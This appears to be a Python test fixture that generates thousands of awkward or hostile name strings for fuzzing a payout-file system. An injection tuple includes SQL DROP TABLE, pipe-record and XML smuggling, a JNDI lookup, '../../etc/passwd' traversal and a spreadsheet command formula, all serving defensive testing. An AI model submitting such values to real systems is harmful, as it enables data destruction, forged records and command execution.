"""Names by the thousand: the county's own list, and families of everything that has ever gone wrong with a name."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Final

from tests.world.desk_list import read_list

LIST: Final = Path(__file__).parents[2] / "data" / "real_name_list" / "farmland_fertility_2026.csv"
_COMMON: Final = "张王李赵刘陈杨黄周吴阿依古丽娜尔买提热合曼吐尔逊卜杜沙拉木江"
_DOTS: Final = "·•‧∙⋅・･．.‐"
_RARE: Final = "珅瑋獆䶮㛃龴﨑㑳䲟䴖鿍鿎鿏犇骉"
_BARS: Final = "珅瑋獆亅亇乀乆乣亖倈倐倸傏僼儀儅凐剕勀卄"  # many of these end in the byte of "|" or "\\" in GBK
_COMBINING: Final = "\u0301\u0308\u0323\u20dd\u3099\u302a\ufe0f"
_RTL: Final = "ئۇيغۇرچەמשהمحمد\u202e\u202b\u2067\u200f"
_INVISIBLE: Final = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\u180e\ufff9"
_BLANKS: Final = " \t\u00a0\u3000\u2003\u2028\u2029\u0085\r\n"
_INJECTIONS: Final = (
    "'; DROP TABLE payouts;--",
    "张三|100|S",
    "张三\r\nD|000002|REF|6222|张|01|1|1|P|x|2026",
    "</Nm><Nm>李四</Nm>",
    "]]>&amp;<![CDATA[",
    "&lt;&#60;&#x3c;",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>",
    '","amount":"9999.00',
    "\\u0022\\n\\",
    "%s%n{0}${jndi:ldap://x}",
    "../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "NULL",
    "\ud83d\ude00",
    "\ud800张",
    "张\udfff",
)


def _of(letters: str, extra: str = "") -> Callable[[random.Random], str]:
    """A plain name with one to three of these letters in it."""

    def make(chance: random.Random) -> str:
        made = [chance.choice(_COMMON + extra) for _ in range(chance.randint(1, 5))]
        for _ in range(chance.randint(1, 3)):
            made.insert(chance.randint(0, len(made)), chance.choice(letters))
        return "".join(made)

    return make


def _between(first: int, last: int) -> Callable[[random.Random], str]:
    """A plain name with a letter out of this range of code points."""
    return lambda chance: _of(chr(chance.randint(first, last)))(chance)


def _minority(chance: random.Random) -> str:
    parts = ["".join(chance.choice(_COMMON) for _ in range(chance.randint(2, 7))) for _ in range(chance.randint(2, 4))]
    return chance.choice(_DOTS).join(parts)


FAMILIES: Final[dict[str, Callable[[random.Random], str]]] = {
    "minority, every dot": _minority,
    "rare": _of(_RARE),
    "second byte of a separator": _of(_BARS),
    "extension A": _between(0x3400, 0x4DBF),
    "extension B": _between(0x20000, 0x2A6DF),
    "extensions C to H": _between(0x2A700, 0x323AF),
    "compatibility": _between(0xF900, 0xFAFF),
    "GB18030, four bytes": _between(0x0080, 0x2FFF),
    "private use": _between(0xE000, 0xF8FF),
    "surrogates": _between(0xD800, 0xDFFF),
    "combining": _of(_COMBINING),
    "right to left": _of(_RTL),
    "invisible": _of(_INVISIBLE),
    "blanks": _of(_BLANKS),
    "control": _between(0x00, 0x1F),
    "more control": _between(0x7F, 0x9F),
    "full width": _between(0xFF00, 0xFFEF),
    "emoji": _between(0x1F300, 0x1FAFF),
    "injection": lambda chance: chance.choice(_INJECTIONS) + chance.choice(("", "张三")),
    "markup": _of("<>&'\"|`?\\%;/"),
    "over-long": lambda chance: chance.choice(_COMMON + _RARE) * chance.choice((49, 50, 51, 100, 101, 140, 141, 5_000)),
    "nothing": lambda chance: chance.choice(("", " ", "\u3000", "\0", "·")),
    "anything": lambda chance: "".join(chr(chance.randrange(0x110000)) for _ in range(chance.randint(1, 12))),
}


def hostile_names(count: int, seed: int) -> Iterator[tuple[str, str]]:
    """``count`` pairs of family and name: a quarter from the county's list, the rest of each family alike."""
    chance = random.Random(seed)
    real = [str(row["name"]) for row in read_list(LIST)]
    for name in chance.sample(real, min(len(real), count // 4)):
        count -= 1
        yield "the list", name
    makers = list(FAMILIES.items())
    for number in range(count):
        family, make = makers[number % len(makers)]
        yield family, make(chance)
